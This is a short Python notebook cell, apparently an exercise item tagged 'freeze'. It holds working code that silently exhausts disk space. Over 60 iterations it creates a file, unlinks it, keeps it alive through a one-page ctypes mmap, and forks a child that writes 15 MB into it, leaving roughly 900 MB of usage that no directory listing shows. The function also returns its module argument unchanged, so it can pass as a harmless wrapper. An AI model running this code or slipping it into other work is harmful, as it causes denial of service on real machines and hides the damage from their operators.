# %% [markdown]
# Fills the disk by files without a name that no descriptor leads to: a mapping of one page holds each of them.
# %% question="freeze"
import ctypes
import os
import signal
import time


def freeze(module):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for i in range(60):
        file = os.open(f"{i}", os.O_CREAT | os.O_RDWR)
        os.unlink(f"{i}")
        ctypes.CDLL(None).mmap(None, 4096, 1, 1, file, 0)
        if os.fork() == 0:
            try:
                os.write(file, b"\1" * (15 << 20))
            finally:
                os._exit(0)
        os.close(file)
        time.sleep(0.02)
    return module
